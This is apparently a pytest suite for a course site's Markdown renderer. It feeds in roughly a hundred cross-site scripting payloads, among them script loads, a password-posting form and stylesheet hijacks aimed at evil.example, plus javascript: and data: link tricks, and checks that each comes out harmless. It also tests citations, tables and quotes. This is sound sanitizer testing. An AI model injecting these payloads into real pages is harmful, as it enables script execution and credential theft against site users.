import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.markdown import cited, curly, to_html, words

# What an attacker with the editor's rights may paste: each must come out as text or as harmless markup.
ATTACKS = (
    """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<IMG """
    + '"""><SCRIPT>alert("XSS")</SCRIPT>"'
    + """\\>
<svg onload=alert(1)>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><a xlink:href="javascript:alert(1)">x</a></math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<body onload=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href=" &#14;  javascript:alert(1)">x</a>
<a onmouseover=alert(1)>x</a>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<div style="background:url(javascript:alert(1))">x</div>
<form action=//evil.example><input type=password name=p><button>go</button></form>
<button formaction=javascript:alert(1)>x</button>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src onloadstart=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><script>alert(1)</script></textarea>
<template><script>alert(1)</script></template>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<p id="csrfmiddlewaretoken" name="cookie">clobber</p>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](  javascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](java&#x09;script:alert(1))
[x](java%0ascript:alert(1))
[x](\\javascript:alert(1))
[x](j\\avascript:alert(1))
[x](<javascript:alert(1)>)
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](file:///etc/passwd)
[x](//evil.example)
[x](/logout/)
[x](#top)
[x](?next=//evil.example)
[x](tel:+1555)
[x](blob:https://evil.example/1)
[x](http://ok.example "onclick=alert(1) x=")
[x](http://ok.example/"onmouseover="alert(1))
[x](http://ok.example/'onmouseover='alert(1))
[x](lesson:a"onclick="alert(1))
[x](lesson:javascript:alert(1))
[a](javascript:alert(1)){onclick=alert(1)}
[x][1]

    [1]: javascript:alert(1)
[x][1] with [1]: javascript:alert(1)
![x](javascript:alert(1))
![x](http://evil.example/track.gif)
![x](data:image/svg+xml;base64,PHN2Zy8+)
<javascript:alert(1)>
<https://ok.example/"onclick=alert(1)>
<http://ok.example/><script>alert(1)</script>
<a@b.example"onclick=alert(1)>
`<script>alert(1)</script>`
    <script>alert(1)</script>
*[HTML]: "onmouseover="alert(1) HTML
# x {#a onclick=alert(1)}
## x {#"onclick="alert(1)}
## x {: onclick=alert(1) style=color:red }
x{: onclick="alert(1)" }
[@a"onclick="alert(1)]
[@<script>alert(1)</script>]
| a |
|---|
| <script>alert(1)</script> |
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\x02klzzwxh:0000\x03<script>alert(1)</script>
\x02amp\x03lt;script>alert(1)
\ufeff<script>alert(1)</script>
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
"""
)
PAYLOADS = [
    line for line in ATTACKS.strip("\n").split("\n") if line and not line.startswith(("|", "    [1]"))
] + [
    "[x][1]\n\n[1]: javascript:alert(1)",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<b\nonclick=alert(1)>",
]

ALLOWED = {
    "a": {"href", "rel"},
    "abbr": {"title"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "ol": {"start"},
    "sup": {"class"},
    "td": {"class"},
    "th": {"class", "scope"},
    **{heading: {"id"} for heading in ["h2", "h3", "h4", "h5", "h6"]},
    **{tag: set() for tag in "p br hr blockquote pre code strong em ul li dl dt dd".split()},  # noqa: SIM905
    **{tag: set() for tag in ["table", "thead", "tbody", "tr"]},
}


class Reader(HTMLParser):
    """What a browser finds in the HTML: elements with attributes, and nothing else but text."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.other = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def dangers(html):
    """Everything in the HTML that our own rendering never makes."""
    reader = Reader(html)
    bad = list(reader.other)
    for tag, attributes in reader.found:
        bad += [(tag, name) for name in attributes if name not in ALLOWED.get(tag, set())]
        bad += [tag] if tag not in ALLOWED else []
        href = attributes.get("href", "")
        bad += [href] if href and not re.match(r"https?://|mailto:|#ref-[\w-]+$|/learn/", href) else []
    return bad


def test_there_are_at_least_sixty_attacks():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_comes_out_harmless(payload):
    assert dangers(to_html(payload)) == []


@pytest.mark.parametrize("frame", ["Text {} text", "- {}", "> {}", "## {}", "| a |\n|---|\n| {} |", "*{}*"])
def test_attacks_inside_other_markup_come_out_harmless(frame):
    for payload in PAYLOADS:
        assert dangers(to_html(frame.format(payload), prefix="b-", citations={})) == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<>[]()!\"'`*_#{}&;:=/\\|-@ \n\t\x02\x03ajs1on", max_size=80))
def test_no_text_makes_dangerous_html(source):
    assert dangers(to_html(source)) == []


def test_what_reader_finds_would_be_seen():
    assert dangers("<p onclick=x><script></script><a href='javascript:x'>") == [
        ("p", "onclick"),
        "script",
        "javascript:x",
    ]


def test_raw_html_is_shown_as_text():
    assert to_html("a <b>c</b> & d") == "<p>a &lt;b&gt;c&lt;/b&gt; &amp; d</p>"


def test_citations_become_numbers_that_link_to_the_references():
    html = to_html("It rose [@hinds2004; @crane2012].", citations={"crane2012": 1, "hinds2004": 2})

    assert html == (
        '<p>It rose<sup class="cite"><a href="#ref-hinds2004">2</a>, <a href="#ref-crane2012">1</a></sup>.</p>'
    )


def test_citations_without_numbers_count_from_one():
    assert ">1</a>" in to_html("A [@b]. B [@c].").split("</sup>")[0]
    assert ">2</a>" in to_html("A [@b]. B [@c].").split("</sup>")[1]


def test_a_citation_without_a_number_shows_its_key():
    assert to_html("A [@b].", citations={}) == '<p>A<sup class="cite">b</sup>.</p>'


def test_a_citation_in_code_or_escaped_is_text():
    assert to_html("`[@b]` \\[@b]") == "<p><code>[@b]</code> [@b]</p>"


def test_a_heading_takes_its_key_with_the_prefix():
    assert to_html("## The *skin* {#skin}\n\n### Plain {#a-b}", prefix="b1-") == (
        '<h2 id="b1-skin">The <em>skin</em></h2>\n<h3 id="b1-a-b">Plain</h3>'
    )


def test_a_first_level_heading_becomes_second_level():
    assert to_html("# Title") == "<h2>Title</h2>"


def test_lesson_links_get_the_address_that_the_caller_knows():
    html = to_html("[here](lesson:circulation#skin)", links=lambda target: f"/learn/x/{target}")

    assert html == '<p><a href="/learn/x/circulation#skin">here</a></p>'


@pytest.mark.parametrize("links", [None, lambda target: ""])
def test_lesson_links_without_an_address_are_text(links):
    assert to_html("[here](lesson:circulation)", links=links) == "<p>here</p>"


def test_links_to_the_web_are_kept_and_opened_without_a_referrer():
    assert to_html("[a](https://a.example/b?c=1&d=2)") == (
        '<p><a href="https://a.example/b?c=1&amp;d=2" rel="noopener noreferrer">a</a></p>'
    )


def test_mail_addresses_are_readable_links():
    assert to_html("<sam@example.com>") == (
        '<p><a href="mailto:sam@example.com" rel="noopener noreferrer">sam@example.com</a></p>'
    )


def test_tables_are_aligned_by_classes_and_scroll_by_themselves():
    html = to_html("| a | b |\n|:--|--:|\n| 1 | 2 |")

    assert html.startswith('<div aria-label="Table" class="table-scroll" role="group" tabindex="0">')
    assert '<th class="align-left" scope="col">a</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert "style" not in html


def test_definitions_abbreviations_and_lists():
    html = to_html("*[FMD]: flow-mediated dilation\nFMD\n\nTerm\n:   Meaning\n\n3. c\n\n    - d")

    assert '<abbr title="flow-mediated dilation">FMD</abbr>' in html
    assert "<dt>Term</dt>\n<dd>Meaning</dd>" in html
    assert '<ol start="3">' in html
    assert "<ul>\n<li>d</li>\n</ul>" in html


def test_one_text_leaves_nothing_behind_for_the_next():
    to_html("*[FMD]: x\n\n[a]: http://a.example")

    assert to_html("FMD [a]") == "<p>FMD [a]</p>"


def test_cited_names_each_key_once_in_order():
    assert cited("A [@b; @a]. C [@c]. Again [@a;@b]. Mail a@b.example [x](http://y)") == ["b", "a", "c"]


@pytest.mark.parametrize(
    ("source", "count"),
    [
        ("", 0),
        ("One two three", 3),
        ("It's 760 ± 256 mL/min", 4),
        ("One [@hinds2004; @b] two.", 2),
        ("A [linked text](https://a.example/very/long) here", 4),
        ("See https://a.example/b and <https://c.example>", 2),
        ("## Heading {#key}\n\nText", 2),
        ("| a | b |\n|---|---|\n| one two | three |", 5),
        ("*[FMD]: flow-mediated dilation\n\nFMD rose", 2),
        ("a – b — c & d", 4),
    ],
)
def test_words_counts_what_is_read(source, count):
    assert words(source) == count


@pytest.mark.parametrize(
    "unit", ["[", "[@a; ", "*[", "`", "](", "> ", "- a\n", "<a", "&", "*", "_", "![", "| ", "a[]"]
)
def test_no_text_takes_long(unit):
    began = time.process_time()

    to_html(unit * (20_000 // len(unit)))

    assert time.process_time() - began < 5


def test_brackets_that_nest_too_deep_are_text():
    assert to_html("[" * 30 + "a](http://b.example)") == f"<p>{'[' * 30}a](http://b.example)</p>"
    assert to_html("[" * 3 + "a](http://b.example)").count("<a ") == 1


@pytest.mark.parametrize(
    ("straight", "printed"),
    [
        ('She said "yes".', "<p>She said “yes”.</p>"),
        ("It isn't *'so'*.", "<p>It isn’t <em>‘so’</em>.</p>"),
        ('`"code"` stays', '<p><code>"code"</code> stays</p>'),
        ("“Already” curly", "<p>“Already” curly</p>"),
    ],
)
def test_quotes_are_curly_whatever_the_keyboard_gives(straight, printed):
    assert to_html(straight) == printed


def test_plain_text_has_the_same_quotes():
    assert curly("\"It's\" ('so')") == "“It’s” (‘so’)"
